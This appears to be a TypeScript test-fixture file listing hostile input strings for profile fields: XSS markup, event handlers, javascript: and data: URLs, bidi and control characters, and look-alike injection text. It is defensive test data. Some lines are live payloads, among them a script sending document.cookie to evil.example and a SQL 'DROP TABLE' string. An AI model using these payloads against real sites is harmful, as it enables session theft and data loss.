/**
 * Hostile strings for every field of a profile: markup and script, event
 * handlers, dangerous URL schemes, text-direction tricks and controls, a
 * 1 MB string, and text that only looks dangerous. Shared by the unit tests
 * and the browser tests.
 */
export const MARKUP = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<script>fetch("https://evil.example/?c="+document.cookie)</script>',
  '</script><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror="window.__pwned=1">',
  '<svg onload=alert(1)>',
  '<body onload=alert(1)>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<a href="javascript:alert(1)">click</a>',
  '<div style="background:url(javascript:alert(1))">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<embed src=javascript:alert(1)>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"</style>',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<!--<img src=x onerror=alert(1)>-->',
  '<!DOCTYPE html>',
  '<?xml version="1.0"?>',
  '"><script>alert(1)</script>',
  "'><img src=x onerror=alert(1)>",
  '<template><script>alert(1)</script></template>',
  'Ada <b>Lovelace</b>',
];

export const URL_SCHEMES = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(1)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'javascript&colon;alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'data:image/svg+xml;base64,PHN2Zy8+',
  'vbscript:msgbox(1)',
  'file:///etc/passwd',
  'blob:https://github.com/x',
  'chrome-extension://abcdefghijklmnop/popup.html',
  '//evil.example/path',
  'https://evil.example/"onmouseover="alert(1)',
];

export const DIRECTION_AND_CONTROL = [
  '\u202Egnp.exe',
  'Ada\u202Eecalevol',
  '\u202Aembedded\u202C',
  '\u2066isolated\u2069',
  'tab\u0000null',
  'bell\u0007',
  'esc\u001b[31mred',
  'del\u007F',
  'c1\u0085next',
  'line\u2028separator',
  'lone \uD800 surrogate',
];

/** Invisible or direction-changing characters that a URL must never hold. */
export const URL_INVISIBLE = [
  'https://example.com/\u202Egnp.exe',
  'https://example.com/\u200Fa',
  'https://exa\u200Bmple.com/',
  'https://example.com/a\u200Db',
  'https://example.com/a\u2060b',
  'https://example.com/a\uFEFFb',
  'https://example.com/a\u0000b',
  'https://evil.example\\@good.example/',
];

/** Harmless as text: accepted where the field allows, and always shown as text. */
export const LOOKS_DANGEROUS = [
  '{{constructor.constructor("alert(1)")()}}',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the payload is the literal text
  '${alert(1)}',
  "'; DROP TABLE profiles; --",
  '__proto__',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\\u003cscript\\u003e',
  'ＤＥＮＩＺ',
  'a < b > c',
  // Generics and comparisons: "<" before a letter, but not a tag (issue 17, bug 9).
  'Vec<T>',
  'List<Integer>',
  'Map<K, V>',
  'x<y',
  'I <3 Rust',
];

export const HUGE = ['x'.repeat(1024 * 1024)];

export const HOSTILE = [
  ...MARKUP,
  ...URL_SCHEMES,
  ...URL_INVISIBLE,
  ...DIRECTION_AND_CONTROL,
  ...LOOKS_DANGEROUS,
  ...HUGE,
];
